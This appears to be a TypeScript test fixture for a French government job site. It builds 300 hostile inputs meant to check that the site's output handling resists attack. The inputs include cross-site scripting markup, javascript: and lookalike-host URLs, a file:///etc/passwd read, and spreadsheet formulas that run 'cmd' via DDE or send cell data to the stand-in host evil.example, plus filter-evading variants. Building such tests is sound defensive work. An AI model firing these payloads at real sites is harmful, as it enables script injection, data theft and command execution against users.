/** Where hostile texts try to lead: a request to it, or a link, is a failure. */
export const FOREIGN = 'evil.example'

const RAN = 'self.ran=1'

const MARKUP = [
  `<script>${RAN}</script>`,
  `<script src=https://${FOREIGN}/x.js></script>`,
  `<img src=x onerror=${RAN}>`,
  `<img src=https://${FOREIGN}/p.png>`,
  `<svg onload=${RAN}>`,
  `<svg><script>${RAN}</script></svg>`,
  `<math><mtext></mtext><img src=x onerror=${RAN}></math>`,
  `<iframe srcdoc="<script>top.ran=1</script>">`,
  `<iframe src=https://${FOREIGN}/></iframe>`,
  `<object data=https://${FOREIGN}/x></object>`,
  `<embed src=https://${FOREIGN}/x>`,
  `<base href=https://${FOREIGN}/>`,
  `<link rel=stylesheet href=https://${FOREIGN}/x.css>`,
  `<style>@import "https://${FOREIGN}/x.css"</style>`,
  `<meta http-equiv=refresh content="0;url=https://${FOREIGN}/">`,
  `<form action=https://${FOREIGN}/><button>x</button></form>`,
  `<details open ontoggle=${RAN}>x</details>`,
  `<input autofocus onfocus=${RAN}>`,
  `<video><source onerror=${RAN}></video>`,
  `<body onpageshow=${RAN}>`,
  `"><img src=x onerror=${RAN}>`,
  `' autofocus onfocus=${RAN} x='`,
  `" onmouseover="${RAN}`,
  `\`><img src=x onerror=${RAN}>`,
  `</textarea><img src=x onerror=${RAN}>`,
  `</title><svg onload=${RAN}>`,
  `<a href="javascript:${RAN}">x</a>`,
  `[x](javascript:${RAN})`,
  `![x](https://${FOREIGN}/p.png)`,
  `**<img src=x onerror=${RAN}>**`,
  `{{constructor.constructor("${RAN}")()}}`,
  `\${${RAN}}`,
  `<%= ${RAN} %>`,
  `$t(app)$(${RAN})`,
]

const ADDRESSES = [
  `javascript:${RAN}`,
  `JaVaScRiPt:${RAN}`,
  ` javascript:${RAN}`,
  `java\tscript:${RAN}`,
  `javascript://%0a${RAN}`,
  `vbscript:${RAN}`,
  `data:text/html,<script>${RAN}</script>`,
  `data:text/html;base64,PHNjcmlwdD4=`,
  `blob:https://${FOREIGN}/1`,
  `file:///etc/passwd`,
  `https://${FOREIGN}/`,
  `http://${FOREIGN}/`,
  `//${FOREIGN}/x`,
  `\\\\${FOREIGN}\\x`,
  `https:${FOREIGN}`,
  `https://labonnealternance.apprentissage.beta.gouv.fr.${FOREIGN}/`,
  `https://labonnealternance.apprentissage.beta.gouv.fr@${FOREIGN}/`,
  `https://${FOREIGN}#labonnealternance.apprentissage.beta.gouv.fr`,
  `https://${FOREIGN}\\@labonnealternance.apprentissage.beta.gouv.fr`,
  `https://xn--80ak6aa92e.${FOREIGN}/`,
  `../../${FOREIGN}`,
  `?partie=<img src=x onerror=${RAN}>`,
  `#/jouer/<svg onload=${RAN}>`,
  `%3Cimg%20src=x%20onerror=${RAN}%3E`,
  `mailto:x@${FOREIGN}?body=<script>${RAN}</script>`,
  `tel:+33"><img src=x onerror=${RAN}>`,
]

const CELLS = [
  `=HYPERLINK("https://${FOREIGN}/?"&A1,"x")`,
  `=WEBSERVICE("https://${FOREIGN}/")`,
  `=IMPORTXML("https://${FOREIGN}/","//a")`,
  `=cmd|' /C calc'!A0`,
  `+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `\t=1+1`,
  `\r=1+1`,
  `;=1+1;`,
  `",=1+1,"`,
  `"\n=HYPERLINK("https://${FOREIGN}/")\n"`,
  `=DDE("cmd";"/C calc";"x")`,
  `%0A=1+1`,
]

/** Ways to say the same that a careless filter lets through. */
const DISGUISES: ((text: string) => string)[] = [
  (text) => text,
  (text) => text.toUpperCase().replaceAll(RAN.toUpperCase(), RAN),
  (text) => `\u202e${text}`,
  (text) => `${text}\u0000`,
  (text) => `a ${text} b`,
]

/** 300 hostile texts: markup and scripts, addresses, cells of tables. The most telling ones come first. */
export const PAYLOADS: readonly string[] = [
  ...new Set(DISGUISES.flatMap((disguise) => [...MARKUP, ...ADDRESSES, ...CELLS].map(disguise))),
].slice(0, 300)
